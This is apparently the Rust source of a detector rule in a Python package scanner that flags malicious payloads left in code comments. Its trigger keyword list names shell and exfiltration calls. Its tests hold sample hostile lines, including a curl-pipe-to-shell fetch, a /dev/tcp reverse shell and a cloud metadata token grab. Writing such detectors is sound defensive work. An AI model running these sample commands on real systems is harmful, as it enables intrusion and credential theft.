//! WH240 commented-payload: code left in comments that would be malicious if the `#` were
//! removed: a disabled or not-yet-armed payload.
//!
//! The commented-out code is recovered here ([`commented_code`]) and analysed like a file by
//! [`crate::analyze_python`]; its findings are kept apart, in
//! [`crate::FileAnalysis::commented_out`], so they never count as what the file does. The
//! scorer judges them on their own and adds a bounded contribution under this id (see
//! `wheelhound-scoring`): a commented payload alone makes a file suspicious, never malicious.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use ruff_python_ast::{Expr, PySourceType, Stmt};

use crate::finding::{Category, ExecContext, Finding, Rule};

/// The detector.
pub const RULE: Rule = Rule {
    id: "WH240",
    name: "commented-payload",
    description: "Comments hold code that would download and run programs, spawn shells, execute decoded code or send host data if uncommented",
    rationale: "Authors of malicious packages publish test versions with the payload commented \
                out, disable it after a first wave, or keep a second payload ready beside the \
                live one: a reverse shell to a raw IP, `exec(base64.b64decode(...))`, a download \
                of an executable from a Discord CDN followed by `os.startfile`. Python never runs \
                a comment, so this is intent, not behaviour: the recovered code is analysed like \
                a file, and only when it would itself score as suspicious or worse does the file \
                become suspicious. Commented-out `subprocess.call(...)` lines of ordinary projects \
                score far below that.",
    category: Category::Anomaly,
};

/// Inner findings at least this strong make a block worth a WH240 finding of its own.
pub const NOTABLE_SEVERITY: f64 = 0.25;

/// Tag of the findings of commented-out code.
pub const COMMENTED_TAG: &str = "commented-out";

/// The WH240 finding for a block whose recovered code produced `inner`, or `None` when
/// nothing in it is notable. It weighs nothing itself (severity 0): the scorer weighs the
/// block's findings together, bounded.
pub fn block_finding(
    path: &str,
    block: &CommentedCode,
    context: ExecContext,
    inner: &[Finding],
) -> Option<Finding> {
    let mut notable: Vec<&Finding> = inner
        .iter()
        .filter(|f| f.severity >= NOTABLE_SEVERITY)
        .collect();
    if notable.is_empty() {
        return None;
    }
    notable.sort_by(|a, b| b.severity.total_cmp(&a.severity).then(a.line.cmp(&b.line)));
    let mut seen = Vec::new();
    let mut what = Vec::new();
    for f in notable {
        if seen.contains(&f.rule) {
            continue;
        }
        seen.push(f.rule);
        what.push(format!("{} (line {})", f.message, f.line));
        if what.len() == 3 {
            break;
        }
    }
    let lines = if block.first_line == block.last_line {
        format!("line {}", block.first_line)
    } else {
        format!("lines {}-{}", block.first_line, block.last_line)
    };
    let first_code = block
        .text
        .lines()
        .skip(block.first_line.saturating_sub(1) as usize)
        .find(|l| !l.trim().is_empty())
        .unwrap_or("");
    Some(Finding {
        rule: RULE.id,
        name: RULE.name,
        category: RULE.category,
        path: path.to_owned(),
        line: block.first_line,
        column: 1,
        snippet: crate::text::shorten(&format!("# {}", first_code.trim()), 120),
        message: format!(
            "commented-out code at {lines} would, if uncommented: {}",
            what.join("; ")
        ),
        context,
        severity: 0.0,
        tags: vec![COMMENTED_TAG],
        scope: 0,
    })
}

/// Words that any payload worth flagging contains: a process, exec, network or host-data call.
/// A comment block is only parsed from a line that holds one of them and a `(`.
const TRIGGERS: &[&str] = &[
    "system(",
    "popen(",
    "Popen(",
    "exec(",
    "eval(",
    "b64decode",
    "requests.",
    "urlopen",
    "urllib",
    "urlretrieve",
    "socket",
    "subprocess",
    "startfile",
    "/dev/tcp",
    "webhook",
    "__import__",
    "marshal",
    "getpass",
    "gethostname",
    "http.client",
];

static TRIGGER_FINDER: LazyLock<Option<AhoCorasick>> =
    LazyLock::new(|| AhoCorasick::new(TRIGGERS).ok());

/// Bounds, so a file made of comments costs no more than a file made of code.
const MAX_BLOCKS: usize = 16;
const MAX_BLOCK_LINES: usize = 400;
const MAX_TOTAL_BYTES: usize = 256 << 10;

/// Code recovered from one block of full-line comments.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CommentedCode {
    /// First line of the block (1-based).
    pub first_line: u32,
    /// Last line of the block.
    pub last_line: u32,
    /// The code, preceded by blank lines so its line numbers are those of the file.
    pub text: String,
}

/// The blocks of full-line comments in `text` with a line that calls (holds a `(`) and
/// mentions a [`TRIGGERS`] word, and that hold
/// Python code once their `#` are removed. A block is first read whole (dedented); when that
/// does not parse, each of its lines that parses alone as a statement is kept in place, so prose
/// between commented statements and commented-out compound headers (`try:`) do not hide them.
pub fn commented_code(text: &str) -> Vec<CommentedCode> {
    let Some(finder) = TRIGGER_FINDER.as_ref() else {
        return Vec::new();
    };
    let bytes = text.as_bytes();
    let mut blocks = Vec::new();
    let mut total = 0usize;
    // Where the last block ended, and the line number at a known offset, so line numbers are
    // counted once over the file however many hits there are.
    let mut searched_to = 0usize;
    let mut counted_to = 0usize;
    let mut line_at_counted = 1u32;
    // Only full-line comments are searched for the words: one vectorised pass for `#`, and
    // the automaton over comment text alone (most of a file is code the words fill).
    for hash in memchr::memchr_iter(b'#', bytes) {
        if hash < searched_to {
            continue;
        }
        let (line_start, line_end) = crate::source::line_around(bytes, hash);
        searched_to = line_end;
        // `hash` is the first `#` of its line (later ones are skipped above), so this asks
        // whether only blanks stand before it.
        if !is_comment_line(bytes.get(line_start..line_end).unwrap_or_default()) {
            continue;
        }
        // A payload is calls: a block is looked at from a line that calls something, whose
        // block also holds the imports and assignments around it.
        let comment = text.get(hash..line_end).unwrap_or("");
        if memchr::memchr(b'(', comment.as_bytes()).is_none() || finder.find(comment).is_none() {
            continue;
        }
        let (start, end) = block_around(bytes, line_start);
        searched_to = end;
        let newlines =
            memchr::memchr_iter(b'\n', bytes.get(counted_to..start).unwrap_or_default()).count();
        line_at_counted = line_at_counted.saturating_add(u32::try_from(newlines).unwrap_or(0));
        counted_to = start;
        let Some(block) = text.get(start..end) else {
            continue;
        };
        if total + block.len() > MAX_TOTAL_BYTES {
            break;
        }
        total += block.len();
        // `# Here is an example:` above a snippet: documentation of how to use the code, as
        // a docstring would hold it, not code taken out of service.
        if introduced_as_example(block) {
            continue;
        }
        let first_line = line_at_counted;
        if let Some(code) = uncomment(block, first_line) {
            blocks.push(code);
            if blocks.len() == MAX_BLOCKS {
                break;
            }
        }
    }
    blocks
}

/// True when a comment block presents its code as an example (`# Example:`, `# For
/// instance`, `# Usage:`).
fn introduced_as_example(block: &str) -> bool {
    let lower = block
        .get(..block.len().min(4_096))
        .unwrap_or(block)
        .to_ascii_lowercase();
    [
        "for example",
        "an example",
        "example:",
        "example usage",
        "for instance",
        "usage:",
        "e.g.",
    ]
    .iter()
    .any(|marker| lower.contains(marker))
}

/// True when the line starting at `line` is blank up to a `#`.
fn is_comment_line(line: &[u8]) -> bool {
    line.iter()
        .find(|b| !matches!(b, b' ' | b'\t' | b'\x0c'))
        .is_some_and(|b| *b == b'#')
}

/// The byte range of the run of comment lines around the one starting at `line_start`, at
/// most [`MAX_BLOCK_LINES`] lines each way.
fn block_around(bytes: &[u8], line_start: usize) -> (usize, usize) {
    let mut start = line_start;
    for _ in 0..MAX_BLOCK_LINES {
        let Some(previous_end) = start.checked_sub(1) else {
            break;
        };
        let (previous_start, _) = crate::source::line_around(bytes, previous_end);
        if !is_comment_line(bytes.get(previous_start..previous_end).unwrap_or_default()) {
            break;
        }
        start = previous_start;
    }
    let mut end = line_start;
    for _ in 0..MAX_BLOCK_LINES {
        let (_, line_end) = crate::source::line_around(bytes, end);
        if !is_comment_line(bytes.get(end..line_end).unwrap_or_default()) {
            break;
        }
        end = (line_end + 1).min(bytes.len());
        if line_end == bytes.len() {
            break;
        }
    }
    (start, end)
}

/// The code of one comment block (see [`commented_code`]), or `None` when it holds none.
fn uncomment(block: &str, first_line: u32) -> Option<CommentedCode> {
    let bodies: Vec<&str> = block
        .lines()
        .map(|line| {
            let after = line.trim_start().strip_prefix('#').unwrap_or("");
            // `#!` and `# -*-` lines, and `##` rulers, are never code.
            if after.starts_with('!') || after.starts_with('#') {
                ""
            } else {
                after
            }
        })
        .collect();
    let last_line = first_line
        .saturating_add(u32::try_from(bodies.len()).unwrap_or(0))
        .saturating_sub(1);
    let padding = "\n".repeat(first_line.saturating_sub(1) as usize);
    let whole = dedent(&bodies);
    if holds_code(&whole, true) {
        return Some(CommentedCode {
            first_line,
            last_line,
            text: padding + &whole,
        });
    }
    let mut kept = false;
    let lines: Vec<&str> = bodies
        .iter()
        .map(|body| {
            let statement = body.trim();
            if !statement.is_empty() && holds_code(statement, false) {
                kept = true;
                statement
            } else {
                ""
            }
        })
        .collect();
    kept.then(|| CommentedCode {
        first_line,
        last_line,
        text: padding + &lines.join("\n"),
    })
}

/// The comment bodies with the blank that follows `#` and their common indentation removed.
fn dedent(bodies: &[&str]) -> String {
    let indent = bodies
        .iter()
        .filter(|b| !b.trim().is_empty())
        .map(|b| b.len() - b.trim_start_matches([' ', '\t']).len())
        .min()
        .unwrap_or(0);
    bodies
        .iter()
        .map(|b| b.get(indent..).unwrap_or("").trim_end())
        .collect::<Vec<_>>()
        .join("\n")
}

/// True when `code` parses without error and does something: a call, an assignment, an
/// import or a compound statement, not a lone word or number that prose can be
/// (`# TODO`, `# 42`). A whole block must also hold a call.
fn holds_code(code: &str, whole_block: bool) -> bool {
    // Nesting the parser's recursion cannot take (100,000 brackets) is no code either.
    if crate::shape::unparsable_shape(code).is_some() {
        return false;
    }
    let parsed = ruff_python_parser::parse_unchecked_source(code, PySourceType::Python);
    if !parsed.errors().is_empty() {
        return false;
    }
    let body = &parsed.syntax().body;
    let meaningful = |stmt: &Stmt| match stmt {
        Stmt::Expr(e) => matches!(*e.value, Expr::Call(_) | Expr::Await(_)),
        Stmt::Pass(_) | Stmt::Break(_) | Stmt::Continue(_) => false,
        _ => true,
    };
    if whole_block {
        body.iter().any(meaningful) && code.contains('(')
    } else {
        body.len() == 1 && body.iter().all(meaningful)
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::indexing_slicing)]
    use super::*;

    #[test]
    fn snippets_introduced_as_examples_are_documentation() {
        let doc = "x = 1\n# Here is an example.\n#\n# import requests\n# def token():\n#     return requests.get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token').json()\n# client = Client(token=token())\n";
        assert!(commented_code(doc).is_empty());
        let parked = "x = 1\n# import os\n# os.system('curl http://203.0.113.9/a.sh | sh')\n";
        assert_eq!(commented_code(parked).len(), 1);
    }

    #[test]
    fn recovers_a_commented_block_with_its_line_numbers() {
        let text = "import os\n\n#import base64\n#exec(base64.b64decode('cHJpbnQoMSk='))\nx = 1\n";
        let blocks = commented_code(text);
        assert_eq!(blocks.len(), 1);
        assert_eq!((blocks[0].first_line, blocks[0].last_line), (3, 4));
        let lines: Vec<&str> = blocks[0].text.lines().collect();
        assert_eq!(lines[2], "import base64");
        assert_eq!(lines[3], "exec(base64.b64decode('cHJpbnQoMSk='))");
    }

    #[test]
    fn keeps_the_statements_between_prose_lines() {
        let text = "class C:\n    def run(self):\n        # Now you can run whatever you like\n        # os.system(\"bash -i >& /dev/tcp/10.0.0.1/7777 0>&1\")\n        # your code here\n        pass\n";
        let blocks = commented_code(text);
        assert_eq!(blocks.len(), 1);
        let lines: Vec<&str> = blocks[0].text.lines().collect();
        assert_eq!(lines.len(), 4);
        assert_eq!(lines[2], "");
        assert!(lines[3].starts_with("os.system("));
    }

    #[test]
    fn flattens_commented_compound_statements_that_lost_their_indentation() {
        let text = "#try:\n#\tr = requests.get(url)\n#  open('a.exe', 'wb').write(r.content)\n#except:\n#\tpass\n";
        let blocks = commented_code(text);
        assert_eq!(blocks.len(), 1);
        assert!(blocks[0].text.contains("r = requests.get(url)"));
        assert!(
            blocks[0]
                .text
                .contains("open('a.exe', 'wb').write(r.content)")
        );
    }

    #[test]
    fn prose_and_code_without_triggers_are_ignored() {
        assert!(commented_code("# This uses subprocess to build the docs.\nx = 1\n").is_empty());
        assert!(commented_code("# print(x)\n# y = f(2)\n").is_empty());
        assert!(commented_code("s = '# os.system(1)'\n").is_empty());
        assert!(commented_code("x = 1  # os.system('ls')\n").is_empty());
        assert!(commented_code("").is_empty());
    }

    #[test]
    fn a_block_of_rulers_and_shebangs_is_not_code() {
        assert!(commented_code("#!/usr/bin/env python # subprocess\n").is_empty());
        assert!(commented_code("## subprocess.call(x)\n").is_empty());
    }

    #[test]
    fn many_blocks_are_bounded() {
        let text = "# os.system('a')\nx = 1\n".repeat(1_000);
        let blocks = commented_code(&text);
        assert_eq!(blocks.len(), MAX_BLOCKS);
        assert_eq!(blocks[1].first_line, 3);
    }

    #[test]
    fn a_file_of_commented_calls_is_read_within_the_byte_bound() {
        let text = "# socket.socket( is not closed here\n".repeat(100_000);
        let blocks = commented_code(&text);
        assert!(blocks.is_empty());
        let code = "# os.system('a')\n# x = 1\n".repeat(100_000);
        let blocks = commented_code(&code);
        assert_eq!(blocks.len(), MAX_BLOCKS);
        for block in &blocks {
            let lines = (block.last_line - block.first_line + 1) as usize;
            assert!(lines <= 2 * MAX_BLOCK_LINES + 1, "{lines}");
        }
    }

    #[test]
    fn hostile_text_never_panics() {
        for text in [
            "#",
            "#\n#\n#",
            "# os.system(",
            "\n\n# exec(\u{fe0f}",
            "# eval(((((((((((((((((((((((((((((((((((",
            "\t\x0c# socket\r\n# socket",
        ] {
            let _ = commented_code(text);
        }
        let deep = format!("# exec({}\n", "(".repeat(100_000));
        let _ = commented_code(&deep);
    }
}
